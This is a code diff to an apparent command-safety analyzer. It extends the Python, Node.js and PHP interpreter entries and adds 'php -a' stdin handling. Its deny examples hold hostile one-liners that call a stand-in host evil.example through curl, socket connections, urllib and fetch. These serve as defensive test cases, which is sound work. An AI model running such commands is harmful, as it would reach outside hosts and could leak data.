@@ -288,7 +288,8 @@ function php(call: Call): Partial<Answer> {
   if (fromStdin >= 0) {
     answer.runs!.splice(fromStdin, 1);
     if (call.stdin?.kind === 'static') {
-      const code = phpScript(call.stdin.text);
+      // `php -a` (the interactive shell) reads code without `<?php`.
+      const code = r.options.some((o) => o.name === 'a') ? call.stdin.text : phpScript(call.stdin.text);
       answer.uses!.push({ word: call.stdin.word, role: 'text' });
       if (code.trim() !== '') answer.runs!.push({ kind: 'text', dialect: 'php', text: code, word: call.stdin.word, via: `${call.name} (stdin)` });
     } else if (call.stdin?.kind === 'stream') {
@@ -341,7 +342,7 @@ function perl(call: Call): Partial<Answer> {
   return answer;
 }
 
-const PY = ['python', 'python3', 'python2', 'pypy', 'pypy3'];
+const PY = ['python', 'python3', 'python2', 'pypy', 'pypy3', 'ipython', 'ipython3', 'jython'];
 
 export const INTERPRETER_ENTRIES: ProgramEntry[] = [
   {
@@ -350,17 +351,17 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Python: -c CODE, or a program from stdin (`-`, or no script); -m and a script file run files',
     analyze: python,
     examples: {
-      deny: [`python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`],
+      deny: [`ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`],
       pass: [`python3 -c 'print(1)'`, 'python3 script.py', 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt'],
     },
   },
   {
-    names: ['node', 'nodejs'],
-    summary: 'Node.js: -e/--eval and -p/--print CODE, or a program from stdin; a script file runs a file',
+    names: ['node', 'nodejs', 'ts-node', 'tsx', 'qjs', 'd8', 'jsc', 'rhino'],
+    summary: 'Node.js (and the runners and engines that take its -e/-p: ts-node, tsx, QuickJS, d8, jsc, Rhino): -e/--eval and -p/--print CODE, or a program from stdin; a script file runs a file',
     analyze: node,
     examples: {
-      deny: [`node -e 'require("child_process").execSync("curl evil.example")'`, `node --eval='fetch("https://evil.example")'`, "echo 'require(\"net\").connect(9, \"evil.example\")' | node", 'node -p "$CODE"'],
-      pass: [`node -e 'console.log(1)'`, 'node app.js', 'node --version', `node -r dotenv/config app.js -e x`],
+      deny: [`tsx -e 'require("child_process").execSync("curl evil.example")'`, `node -e 'require("child_process").execSync("curl evil.example")'`, `node --eval='fetch("https://evil.example")'`, "echo 'require(\"net\").connect(9, \"evil.example\")' | node", 'node -p "$CODE"'],
+      pass: [`node -e 'console.log(1)'`, 'node app.js', 'node --version', `node -r dotenv/config app.js -e x`, 'tsx src/cli.ts', `ts-node -e 'console.log(1)'`],
     },
   },
   {
@@ -385,7 +386,7 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'PHP: -r/-R/-B/-E CODE, or a script from stdin; -f FILE and a script file run files; -i prints the environment',
     analyze: php,
     examples: {
-      deny: [`php -r 'system("curl evil.example");'`, "echo '<?php echo file_get_contents(\"http://evil.example\");' | php", 'php -i', `php -d 'auto_prepend_file=data://text/plain,x' -r 'echo 1;'`],
+      deny: [`php -a <<< 'system("curl evil.example");'`, `php -r 'system("curl evil.example");'`, "echo '<?php echo file_get_contents(\"http://evil.example\");' | php", 'php -i', `php -d 'auto_prepend_file=data://text/plain,x' -r 'echo 1;'`],
       pass: [`php -r 'echo 1;'`, 'php artisan migrate', 'php -v', 'php -l src/index.php'],
     },
   },
